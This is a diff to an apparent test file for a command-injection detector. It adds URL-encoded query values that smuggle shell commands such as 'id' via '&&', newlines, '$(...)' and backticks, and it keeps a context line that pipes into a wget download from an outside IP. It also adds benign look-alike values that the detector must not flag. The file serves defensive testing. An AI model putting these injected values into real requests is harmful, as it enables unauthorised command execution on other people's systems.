@@ -19,6 +19,12 @@ test('values that a shell, or a program that hands them to one, would carry out'
     'c=system(%27id%27)',
     'c=phpinfo%28%29',
     'p=x|+wget+http://198.18.6.6/a',
+    'c=%2Fusr%2Fbin%2Fid',
+    'host=1%26%26%20id',
+    'host=1%0Acat%20x',
+    'name=$(id)',
+    'name=`id`',
+    'name=%24%28id%29',
   ])
     assert.ok(isIn(query), query);
 });
@@ -34,6 +40,9 @@ test('words that begin alike, names of parameters, and prose', () => {
     'q=system',
     'q=a;b',
     'sort=name|id2',
+    'q=R%26D',
+    'price=$(7)',
+    'path=%2Fhome%2Fpage',
   ])
     assert.ok(!isIn(query), query);
 });
